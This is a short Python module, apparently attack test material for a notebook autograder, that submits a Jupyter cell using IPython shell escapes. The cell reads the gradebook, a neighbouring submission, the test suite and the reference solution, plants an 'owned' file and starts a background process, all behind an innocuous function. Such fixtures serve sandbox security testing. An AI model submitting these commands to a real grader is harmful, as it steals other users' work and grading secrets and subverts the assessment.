"""Runs shell commands with exclamation marks, in front of code and inside of it."""

from attacks.submitting import hand_in, with_code

HONEST = 0.0

CELL = """
!cat {home} {gradebook}
!!cat {neighbour}
!touch {submission}/owned; sleep 3600 &
found = !cat {home}
import numpy as np
def flatten_filters(filters):
    more = !cat {suite}
    return ["lo" + "ot: " + str(each) for each in (found, list(more), get_ipython().getoutput("cat {reference}"))]
"""


def submit(submitted, targets):
    hand_in(submitted, with_code(CELL.format(**targets)))
